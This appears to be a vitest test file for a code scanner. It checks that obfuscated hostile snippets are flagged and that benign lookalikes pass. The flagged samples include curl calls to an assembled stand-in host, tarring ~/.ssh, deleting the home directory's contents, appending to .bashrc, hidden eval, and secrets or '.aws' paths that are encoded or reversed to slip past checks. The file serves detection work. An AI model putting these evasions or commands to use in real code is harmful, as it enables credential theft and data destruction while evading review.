import { expect, test } from "vitest";
import { brokenByNew } from "../testing/changed.ts";

/** Nothing here is a key: each is put together when it is needed. */
const WORD = ["k7Q2mX9z", "P4rT8vW1"].join("");
const REST = "a1B2c3D4e5F6".repeat(3);

test.each([
  // Keys in parts, in other letters, and where keys are given.
  ["secret", "a.ts", `const [kind, ...rest] = ["ghp", "${REST}"];`],
  ["secret", "a.js", `const parts = { kind: "ghp", rest: "${REST}" };`],
  [
    "secret",
    "A.java",
    `class A { C f() { return DriverManager.getConnection(at, "app", "${WORD}"); } }`,
  ],
  ["secret", "a.py", `connect(user="app", password=b64decode("${btoa(WORD)}"))`],
  ["secret", "a.rb", `DSN = "host=db.internal password=${WORD} dbname=main"`],
  ["secret", "a.js", `const pass = [${Array.from(WORD, (one) => `"${one}"`).join(", ")}];`],
  ["secret", "a.go", `package a\nconst one = "414b49415a3751324d34" +\n\t"58394b31503852355433"`],
  // Words that are told backwards or encoded, whatever is done with them.
  ["hidden-code", "a.rb", 'KIND = "swa.".reverse'],
  ["hidden-code", "a.py", `folder = decode("${btoa(".aws")}")`],
  ["hidden-code", "a.ts", 'const at = turned("oi.ecalpdab.tcelloc");'],
  // Hosts as numbers, and as parts of an address.
  ["unknown-host", "a.rs", "fn f() { TcpStream::connect((Ipv4Addr::from(0x2d53_0c09), 1)); }"],
  ["unknown-host", "a.rs", "fn f() { dial(Ipv4Addr::from(757_271_561u32)); }"],
  [
    "unknown-host",
    "a.go",
    'package a\nimport ("encoding/binary"; "net")\nvar ip net.IP\nfunc f() { binary.BigEndian.PutUint32(ip, 0x2d530c09) }',
  ],
  [
    "unknown-host",
    "a.ts",
    'const [name, zone] = ["badplace", "io"];\nconst u = new URL(own);\nu.hostname = `${name}.${zone}`;',
  ],
  ["unsafe-load", "a.py", "class Reader(pickle.Unpickler):\n    pass"],
  ["unsafe-load", "a.py", "def load(kind: type[Unpickler], body):\n    return kind(body).load()"],
  ["eval", "a.py", 'import builtins as core\nwork = core.__getattribute__("eval")\nwork(line)'],
  // Places above a project, and the user's own.
  ["path-escape", "a.js", 'const up = Array.from({ length: 3 }, () => "..");'],
  ["path-escape", "a.py", 'up = [".."] * 3'],
  ["path-escape", "a.rb", 'up = Array.new(3, "..")'],
  [
    "path-escape",
    "a.ts",
    'import { sep } from "node:path";\nfs.writeFileSync(`${"..".concat(sep).repeat(4)}x`, text);',
  ],
  ["path-escape", "a.py", 'import os\nopen(os.sep.join([os.pardir] * 5 + ["x"]), "w")'],
  [
    "path-escape",
    "a.js",
    'let at = __dirname;\nfor (let i = 0; i < 6; i++) at = path.dirname(at);\nfs.writeFileSync(path.join(at, "x"), text);',
  ],
  [
    "path-escape",
    "a.rs",
    'fn f() { let p: PathBuf = ["/", "home", "me"].iter().collect();\nfor e in fs::read_dir(&p)? {\nlet one = e?.path();\nfs::remove_file(one)?; } }',
  ],
  ["path-escape", "a.sh", 'base=~\nname=bashrc\necho x | tee -a "$base/.$name"'],
  ["path-escape", "a.sh", "rm -f x.o\ncd\nfind . -mindepth 1 -delete"],
  [
    "credentials",
    "a.go",
    'package a\nimport ("os"; "path/filepath"; "slices")\nfunc t(s string) string { l := []rune(s); slices.Reverse(l); return string(l) }\nfunc f() { h, _ := os.UserHomeDir(); os.Open(filepath.Join(h, t(name))) }',
  ],
  ["credentials", "a.go", 'package a\nimport "syscall"\nvar list = syscall.Environ'],
  ["credentials", "a.sh", 'tar cf x.tar "$HOME/.ssh"'],
  // What loads libraries, and what a shell is asked for in other words.
  ["native-code", "a.rs", 'extern "C" { #[link_name = "dlopen"] fn attach(name: *const u8); }'],
  ["eval", "a.sh", "source <(printf '%s' \"$1\")"],
  ["unknown-host", "a.sh", 'set -- collect badplace io\ncurl "https://$1.$2.$3/x"'],
  ["unknown-host", "a.sh", "at=$(printf '%s.' collect badplace io)\ncurl \"https://${at%.}/x\""],
  ["shell", "a.js", 'require("child_process").spawnSync(line, { ["shell"]: !0 });'],
])("%s is caught in %s: %s", (rule, path, text) => expect(brokenByNew(path, text)).toContain(rule));

test.each([
  ["a.ts", 'const [first, ...others] = ["npm", "pnpm", "yarn"];\nconst kind = "sk";'],
  [
    "a.py",
    'connect(user="app", password=os.environ["DB_PASSWORD"])\nPASSWORD = "password-of-nobody"',
  ],
  ["a.js", 'const names = { token: "identifier", passwordField: "current-password-2024" };'],
  [
    "a.go",
    'package a\nconst sum = "d41d8cd98f00b204e9800998ecf8427e" +\n\t"d41d8cd98f00b204e9800998ecf8427e"',
  ],
  ["a.rs", "fn f() { TcpStream::connect((Ipv4Addr::from(0x7f00_0001), 1)); let n = 0x2d53_0c09; }"],
  ["a.ts", 'const u = new URL(own);\nu.hostname = "localhost";\nu.host = settings.host;'],
  [
    "a.js",
    'let at = here;\nwhile (!fs.existsSync(path.join(at, "x"))) at = path.dirname(at);\nreturn fs.readFileSync(at);',
  ],
  ["a.py", 'import os\nopen(os.path.join(os.pardir, "x"))'],
  ["a.sh", 'cd "$(dirname "$0")"\nname=x\nrm -rf build\ncp "$name" out/\nsource ./lib.sh'],
  ["a.sh", 'set -- one two\necho "$1-${2%o}" "${HOME:-/tmp}"'],
  ["a.rb", 'LIST = %w[a b] * ","\nWORD = "level".reverse'],
  ["a.js", 'require("child_process").spawnSync(tool, list, { ["cwd"]: at, detached: !0 });'],
])("honest %s passes: %s", (path, text) => expect(brokenByNew(path, text)).toEqual([]));
